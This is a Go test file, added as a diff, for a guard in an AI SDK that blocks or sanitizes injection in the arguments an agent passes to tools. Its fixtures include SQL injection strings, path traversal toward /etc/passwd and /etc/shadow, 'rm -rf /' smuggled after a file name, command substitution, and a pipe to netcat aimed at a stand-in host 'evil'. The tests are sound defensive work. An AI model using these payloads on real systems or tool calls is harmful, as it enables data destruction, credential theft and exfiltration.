@@ -0,0 +1,170 @@
+package ai
+
+import (
+	"context"
+	"errors"
+	"testing"
+
+	"github.com/digitallysavvy/go-ai/pkg/provider/types"
+)
+
+func TestCheckToolArgs(t *testing.T) {
+	t.Parallel()
+
+	tests := []struct {
+		name   string
+		value  string
+		threat ArgThreat
+	}{
+		{"tautology", "x' OR '1'='1", ArgThreatSQLInjection},
+		{"stacked query", "1; DROP TABLE users", ArgThreatSQLInjection},
+		{"union select", "0 UNION ALL SELECT password FROM users", ArgThreatSQLInjection},
+		{"comment", "admin'--", ArgThreatSQLInjection},
+		{"traversal", "../../etc/passwd", ArgThreatPathTraversal},
+		{"encoded traversal", "%2e%2e%2fsecret", ArgThreatPathTraversal},
+		{"absolute path", "/etc/passwd", ArgThreatPathTraversal},
+		{"drive path", `C:\Windows\win.ini`, ArgThreatPathTraversal},
+		{"command separator", "file.txt; rm -rf /", ArgThreatShellMetacharacters},
+		{"substitution", "$(whoami)", ArgThreatShellMetacharacters},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			guard := ToolArgGuard{Threats: []ArgThreat{tt.threat}}
+			got := CheckToolArgs("tool", map[string]interface{}{"arg": tt.value}, guard)
+			if len(got) != 1 || got[0].Threat != tt.threat || got[0].Path != "arg" {
+				t.Errorf("expected %s violation for %q, got %+v", tt.threat, tt.value, got)
+			}
+		})
+	}
+
+	benign := map[string]interface{}{
+		"query": "O'Brien",
+		"path":  "docs/guide.md",
+		"limit": 10,
+		"tags":  []interface{}{"go", "ai"},
+	}
+	all := ToolArgGuard{Threats: []ArgThreat{ArgThreatSQLInjection, ArgThreatPathTraversal, ArgThreatShellMetacharacters}}
+	if got := CheckToolArgs("tool", benign, all); len(got) != 0 {
+		t.Errorf("expected no violations for benign input, got %+v", got)
+	}
+
+	// Threats are opt-in, so prose is not checked by a guard that lists none
+	prose := map[string]interface{}{"note": "Tom & Jerry cost $5;\nsee you -- Bob"}
+	if got := CheckToolArgs("tool", prose, ToolArgGuard{}); len(got) != 0 {
+		t.Errorf("expected a guard without threats to check nothing, got %+v", got)
+	}
+}
+
+func TestCheckToolArgs_Fields(t *testing.T) {
+	t.Parallel()
+
+	input := map[string]interface{}{
+		"note":    "Tom & Jerry",
+		"filters": []interface{}{map[string]interface{}{"value": "a; ls"}},
+	}
+	got := CheckToolArgs("search", input, ToolArgGuard{
+		Threats: []ArgThreat{ArgThreatShellMetacharacters},
+		Fields:  []string{"filters[].value"},
+	})
+	if len(got) != 1 || got[0].Path != "filters[0].value" {
+		t.Errorf("expected only the listed field to be checked, got %+v", got)
+	}
+}
+
+func TestGuardToolArgs_Block(t *testing.T) {
+	t.Parallel()
+
+	executed := false
+	var reported []ToolArgViolation
+	tool := GuardToolArgs(types.Tool{
+		Name: "read_file",
+		Execute: func(ctx context.Context, input map[string]interface{}, opts types.ToolExecutionOptions) (interface{}, error) {
+			executed = true
+			return "contents", nil
+		},
+	}, ToolArgGuard{
+		Threats:     []ArgThreat{ArgThreatPathTraversal},
+		OnViolation: func(ctx context.Context, v ToolArgViolation) { reported = append(reported, v) },
+	})
+
+	_, err := tool.Execute(context.Background(), map[string]interface{}{"path": "../secrets.env"}, types.ToolExecutionOptions{})
+	var injErr *ToolArgInjectionError
+	if !errors.As(err, &injErr) || injErr.Tool != "read_file" {
+		t.Fatalf("expected ToolArgInjectionError, got %v", err)
+	}
+	if executed {
+		t.Error("tool should not run when arguments are blocked")
+	}
+	if len(reported) != 1 {
+		t.Errorf("expected OnViolation to be called once, got %d", len(reported))
+	}
+}
+
+func TestGuardToolArgs_Sanitize(t *testing.T) {
+	t.Parallel()
+
+	var got map[string]interface{}
+	tool := GuardToolArgs(types.Tool{
+		Name: "run",
+		Execute: func(ctx context.Context, input map[string]interface{}, opts types.ToolExecutionOptions) (interface{}, error) {
+			got = input
+			return nil, nil
+		},
+	}, ToolArgGuard{
+		Threats: []ArgThreat{ArgThreatSQLInjection, ArgThreatPathTraversal, ArgThreatShellMetacharacters},
+		Action:  ArgGuardSanitize,
+	})
+
+	input := map[string]interface{}{
+		"path":  "../../etc/passwd",
+		"abs":   "/etc/shadow",
+		"cmd":   "ls | nc evil 80",
+		"query": "x'; DROP TABLE t",
+		"name":  "O'Brien",
+	}
+	if _, err := tool.Execute(context.Background(), input, types.ToolExecutionOptions{}); err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+
+	if got["path"] != "etc/passwd" {
+		t.Errorf("unexpected sanitized path %q", got["path"])
+	}
+	if got["abs"] != "etc/shadow" {
+		t.Errorf("unexpected sanitized absolute path %q", got["abs"])
+	}
+	if got["cmd"] != "ls  nc evil 80" {
+		t.Errorf("unexpected sanitized command %q", got["cmd"])
+	}
+	if got["query"] != "x'' DROP TABLE t" {
+		t.Errorf("unexpected sanitized query %q", got["query"])
+	}
+	if got["name"] != "O'Brien" {
+		t.Errorf("benign values should be left unchanged, got %q", got["name"])
+	}
+	if input["path"] != "../../etc/passwd" {
+		t.Error("input should not be modified")
+	}
+}
+
+func TestGuardToolsArgs_PerTool(t *testing.T) {
+	t.Parallel()
+
+	noop := func(ctx context.Context, input map[string]interface{}, opts types.ToolExecutionOptions) (interface{}, error) {
+		return "ok", nil
+	}
+	tools := GuardToolsArgs(
+		[]types.Tool{{Name: "shell", Execute: noop}, {Name: "notes", Execute: noop}},
+		ToolArgGuard{Threats: []ArgThreat{ArgThreatShellMetacharacters}},
+		map[string]*ToolArgGuard{"notes": nil},
+	)
+
+	args := map[string]interface{}{"text": "a && b"}
+	if _, err := tools[0].Execute(context.Background(), args, types.ToolExecutionOptions{}); err == nil {
+		t.Error("expected guarded tool to block")
+	}
+	if _, err := tools[1].Execute(context.Background(), args, types.ToolExecutionOptions{}); err != nil {
+		t.Errorf("expected unguarded tool to run, got %v", err)
+	}
+}